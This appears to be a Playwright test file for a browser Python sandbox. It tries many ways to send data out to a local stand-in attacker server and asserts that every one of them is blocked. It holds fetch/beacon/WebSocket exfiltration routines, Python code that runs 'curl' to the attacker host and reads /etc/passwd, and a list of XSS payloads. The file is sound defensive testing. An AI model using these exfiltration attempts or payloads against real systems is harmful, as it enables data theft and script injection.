// An attacker's server that nobody can reach. What a hostile program, or somebody who already holds the sandbox's own
// JavaScript, tries must leave its log empty; and a control shows that the log would not stay empty by itself.

import { createHash } from "node:crypto";
import { get } from "node:http";
import { chromium } from "playwright-core";
import { after, before, test } from "node:test";
import {
  assert, executablePath, flags, labFile, openLab, pageTest, run, sees, setCode, siteAddress, useBrowser,
} from "./support/browser.mjs";
import { startAttacker } from "./support/servers.mjs";

useBrowser();
const lab = "lvg-checkout";
let attacker;
before(async () => void (attacker = await startAttacker()));
after(() => attacker.close());

/** Every way out that a document or a worker may know. Runs where it is put; settles when all have been tried. */
async function tryEverything({ origin, host, who }) {
  const outcome = {};
  const attempt = async (name, action) => {
    try {
      const waited = await Promise.race([action(), new Promise((late) => setTimeout(late, 1500, "waited"))]);
      outcome[name] = String(waited);
    } catch (error) {
      outcome[name] = `refused: ${error?.name ?? error}`;
    }
  };
  const url = (path) => `${origin}/${who}/${path}`;
  const opened = (source) => new Promise((yes, no) => {
    source.onopen = () => yes("OPEN");
    source.onerror = () => no(new Error("error"));
  });
  await attempt("fetch", () => fetch(url("fetch")));
  await attempt("fetch no-cors", () => fetch(url("no-cors"), { mode: "no-cors", method: "POST", body: "code" }));
  await attempt("XHR", () => new Promise((yes, no) => {
    const request = new XMLHttpRequest();
    request.open("GET", url("xhr"));
    request.onload = () => yes("LOADED");
    request.onerror = () => no(new Error("error"));
    request.send();
  }));
  await attempt("WebSocket", () => opened(new WebSocket(`ws://${host}/${who}/socket`)));
  await attempt("WebSocketStream", () => new WebSocketStream(`ws://${host}/${who}/stream`).opened);
  await attempt("WebTransport", () => new WebTransport(`https://${host}/${who}/transport`).ready);
  await attempt("EventSource", () => opened(new EventSource(url("events"))));
  await attempt("FontFace", () => new FontFace("x", `url(${url("font")})`).load());
  await attempt("import()", () => import(url("import.js")));
  await attempt("nested worker", () => new Promise((yes, no) => {
    const worker = new Worker(URL.createObjectURL(new Blob([`fetch("${url("nested")}").then(() => postMessage(1))`])));
    worker.onmessage = () => yes("FETCHED");
    worker.onerror = () => no(new Error("error"));
  }));
  if (typeof importScripts === "function") await attempt("importScripts", async () => importScripts(url("scripts.js")));
  if (typeof document === "object") {
    const put = (make) => new Promise((yes, no) => {
      const element = make();
      element.onload = () => yes("LOADED");
      element.onerror = () => no(new Error("error"));
      (document.body ?? document.documentElement).append(element);
    });
    const made = (tag, fields) => () => Object.assign(document.createElement(tag), fields);
    await attempt("beacon", async () => navigator.sendBeacon(url("beacon"), "code"));
    await attempt("img", () => put(made("img", { src: url("img") })));
    await attempt("stylesheet", () => put(made("link", { rel: "stylesheet", href: url("css") })));
    await attempt("prefetch", () => put(made("link", { rel: "prefetch", href: url("prefetch") })));
    await attempt("preconnect", () => put(made("link", { rel: "preconnect", href: origin })));
    await attempt("script", () => put(made("script", { src: url("script") })));
    await attempt("frame", () => put(made("iframe", { src: url("frame") })));
    await attempt("object", () => put(made("object", { data: url("object") })));
    await attempt("form", async () => {
      const form = Object.assign(document.createElement("form"), { action: url("form"), method: "post" });
      (document.body ?? document.documentElement).append(form);
      form.submit();
      return "submitted";
    });
    await attempt("popup", async () => window.open(url("popup")) ?? "none");
  }
  return outcome;
}

function forget() {
  attacker.hits.length = 0;
  attacker.connections = 0;
}

/** What has reached the attacker; a request of our own goes last, so whatever was sent before it has arrived. */
async function hits() {
  await new Promise((ready, failed) => get(`${attacker.origin}/mark`, { agent: false }, ready).on("error", failed));
  assert.equal(attacker.hits.at(-1), "GET /mark");
  return attacker.hits.slice(0, -1);
}

/** Not even a connection: what a worker, and so a guest, must keep to. A document cannot: before Chromium refuses to load a
 *  frame it may open a connection, on which it then sends nothing. No guest reaches a document. */
function connections() {
  return attacker.connections - 1;
}

test("control: without our walls the same attempts do reach the attacker", async () => {
  forget();
  const browser = await chromium.launch({ executablePath, args: flags });
  const page = await browser.newPage();
  await page.goto(`${attacker.origin}/plain`);
  await page.evaluate(tryEverything, { origin: attacker.origin, host: attacker.host, who: "control" }).catch(() => undefined);
  await browser.close();
  const counted = await hits();
  for (const way of ["fetch", "no-cors", "xhr", "events", "import.js", "img", "beacon", "nested"]) {
    assert.ok(counted.some((hit) => hit.includes(`/control/${way}`)), `${way} was not counted: ${counted.join(", ")}`);
  }
  assert.ok(counted.some((hit) => hit.startsWith("UPGRADE")), "WebSocket was not counted");
});

pageTest("a hostile program finds nobody to talk to", {}, async (page) => {
  forget();
  await openLab(page, lab);
  await setCode(page, `
def attempt(name, action):
    try:
        print(name, "GOT", action())
    except BaseException as error:
        print(name, "refused", type(error).__name__)

def by_socket():
    import socket
    return socket.create_connection(("127.0.0.1", ${attacker.host.split(":")[1]}), 2)

def by_urllib():
    import urllib.request
    return urllib.request.urlopen("${attacker.origin}/urllib", timeout=2).read()

def by_js():
    import js
    return js.fetch("${attacker.origin}/js")

def by_shell():
    import os
    return os.system("curl ${attacker.origin}/shell")

def by_process():
    import subprocess
    return subprocess.run(["curl", "${attacker.origin}/process"])

def by_ctypes():
    import ctypes
    return ctypes.CDLL(None).connect

def outside():
    return open("/etc/passwd").read()

def climb():
    return open("../../../../etc/passwd").read()

def environment():
    import os
    return dict(os.environ)["HOME"]

for action in (by_socket, by_urllib, by_js, by_shell, by_process, by_ctypes, outside, climb, environment):
    attempt(action.__name__, action)
print("all tried")
`);
  await run(page);
  await sees(page, /all tried/);
  const screen = await page.locator(".screen").innerText();
  assert.doesNotMatch(screen, /GOT/);
  assert.deepEqual(await hits(), []);
  assert.equal(connections(), 0);
});

pageTest("inside the sandbox frame, the worker and the page, every way out is shut", { expectsErrors: true }, async (page) => {
  await openLab(page, lab);
  await setCode(page, "print('warm')\n");
  await run(page);
  await sees(page, "Your program finished.");
  const target = { origin: attacker.origin, host: attacker.host };

  const workers = page.workers().filter((it) => it.url().startsWith("blob:"));
  assert.notEqual(workers.length, 0, "the sandbox has a worker");
  // The page has one of its own, which fetches from its site alone.
  const others = page.workers().filter((it) => !workers.includes(it)).map((it) => it.url());
  assert.ok(others.every((it) => it.startsWith(`${siteAddress()}assets/file_worker-`)), others.join(" "));
  const [frame] = page.frames().filter((it) => it !== page.mainFrame());
  assert.ok(frame !== undefined, "the sandbox has a frame");

  forget();
  for (const worker of workers) {
    const outcome = await worker.evaluate(tryEverything, { ...target, who: "worker" });
    assert.ok(Object.keys(outcome).length >= 10, JSON.stringify(outcome));
    assert.match(outcome["fetch"], /refused/);
    assert.match(outcome["importScripts"], /refused/);
    const storage = await worker.evaluate(async () => {
      const seen = [];
      for (const [name, open] of Object.entries({
        indexedDB: () => new Promise((yes, no) => Object.assign(indexedDB.open("x"), { onsuccess: yes, onerror: no })),
        caches: () => caches.open("x"),
        opfs: () => navigator.storage.getDirectory(),
        eval: async () => (0, eval)("1"),
      })) await open().then(() => seen.push(name), () => undefined);
      return seen;
    }).catch(() => []);
    assert.deepEqual(storage, []);
  }
  assert.deepEqual(await hits(), []);
  assert.equal(connections(), 0);

  forget();
  const outcome = await frame.evaluate(tryEverything, { ...target, who: "frame" });
  assert.match(outcome["fetch"], /refused/);
  assert.deepEqual(await hits(), []);

  forget();
  await page.evaluate(() => void (window.open = () => null));
  const own = await page.evaluate(tryEverything, { ...target, who: "page" });
  assert.match(own["fetch"], /refused/);
  assert.match(own["img"], /refused|waited/);
  assert.deepEqual(await hits(), []);

  forget();
  await frame.evaluate((origin) => void (location.href = `${origin}/navigation?code`), attacker.origin).catch(() => undefined);
  await new Promise((settle) => setTimeout(settle, 1000));
  assert.deepEqual(await hits(), []);
});

pageTest("a hostile text of a lab is text", { expectsErrors: true }, async (page) => {
  const hostile = [
    "<script>window.hurt = 1</script>", "<img src=x onerror=\"window.hurt = 2\">", "<svg onload=\"window.hurt = 3\"></svg>",
    "<iframe srcdoc=\"<script>parent.hurt = 4</script>\"></iframe>", "<style>body{display:none}</style>",
    `<meta http-equiv=refresh content="0;url=${attacker.origin}/refresh">`, "<form action=//evil><input></form>",
    "[a](javascript:window.hurt=5)", "[b](JaVaScRiPt:window.hurt=6)", "[c](java\tscript:window.hurt=7)",
    "[d](data:text/html,<script>1</script>)", "[e](vbscript:x)", "[f](//evil.example/x)", "[g](\\\\evil.example\\x)",
    `[h](${attacker.origin}/plain-http)`, "[i](https://user:pass@evil.example/)", "[j](&#106;avascript:window.hurt=8)",
    `![k](${attacker.origin}/image.png)`, "<javascript:window.hurt=9>", "[l]: javascript:window.hurt=10", "[l]",
    "[good](https://example.org/path \"title\")", "&nbsp;&lt;b&gt;", "", "| a | b |", "|---|---|", "| <b>x</b> | [m](javascript:1) |",
    "", "```html", "<script>window.hurt = 11</script>", "```",
  ].join("\n\n").replace("| a | b |\n\n|---|---|\n\n|", "| a | b |\n|---|---|\n|");
  const bytes = Buffer.from(hostile);
  const fetched = async (path) => (await fetch(`${siteAddress()}${path}`)).text();
  const listed = (text) => ({ bytes: Buffer.byteLength(text), sha256: createHash("sha256").update(text).digest("hex") });
  const entry = JSON.parse(await fetched(`labs/${lab}/listing.json`));
  Object.assign(entry.fileList.find(({ path }) => path === "text.en.md"), listed(bytes));
  const listing = JSON.stringify(entry);
  const labs = JSON.parse(await fetched("labs/list.json"));
  Object.assign(labs.labs.find(({ id }) => id === lab).listing, listed(listing));
  const list = JSON.stringify(labs);
  // Whoever has such a lab on their site has a page that names its list.
  const html = await fetched("");
  const named = html.replace(/(labs\/list\.json=)[0-9a-f]{64}/, `$1${listed(list).sha256}`);
  assert.notEqual(named, html);
  await page.route(siteAddress(), (route) => route.fulfill({ body: named, contentType: "text/html" }));
  await page.route("**/labs/list.json", (route) => route.fulfill({ body: list, contentType: "application/json" }));
  await page.route(`**/labs/${lab}/listing.json`, (route) => route.fulfill({ body: listing, contentType: "application/json" }));
  await page.route("**/text.en.md", (route) => route.fulfill({ body: bytes, contentType: "text/markdown" }));
  forget();
  await openLab(page, lab);
  const prose = page.locator(".prose");
  await prose.getByText("window.hurt = 1", { exact: false }).first().waitFor();
  const allowed = new Set(["DIV", "P", "EM", "STRONG", "CODE", "PRE", "UL", "OL", "LI", "BLOCKQUOTE", "HR", "BR", "A", "SPAN",
    "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "H2", "H3", "H4", "svg", "path"]);
  const tags = await prose.evaluate((it) => [...new Set([...it.querySelectorAll("*")].map(({ tagName }) => tagName))]);
  assert.deepEqual(tags.filter((tag) => !allowed.has(tag)), []);
  const links = await prose.locator("a").evaluateAll((all) => all.map((it) => [it.href, it.rel, it.target, it.textContent]));
  assert.deepEqual(links, [["https://example.org/path", "noopener noreferrer", "_blank", "good (example.org)"]]);
  assert.equal(await page.evaluate(() => window.hurt), undefined);
  assert.deepEqual(await hits(), []);
});

test("the site holds no attempt of an author but those that a lab carries", async () => {
  const { status } = await fetch(`${siteAddress()}labs/${lab}/attempts/passes/decimals.py`);
  assert.equal(status, 404);
  assert.match(await labFile(`${lab}/attempts/passes/decimals.py`), /def checkout/);
  const { labs } = JSON.parse(await (await fetch(`${siteAddress()}labs/index.json`)).text());
  assert.ok(labs.some(({ carried }) => carried.length > 0));
  for (const { id, carried, fileList } of labs) {
    assert.deepEqual(fileList.map(({ path }) => path).filter((path) => path.startsWith("attempts/")).sort(), [...carried].sort(), id);
  }
});
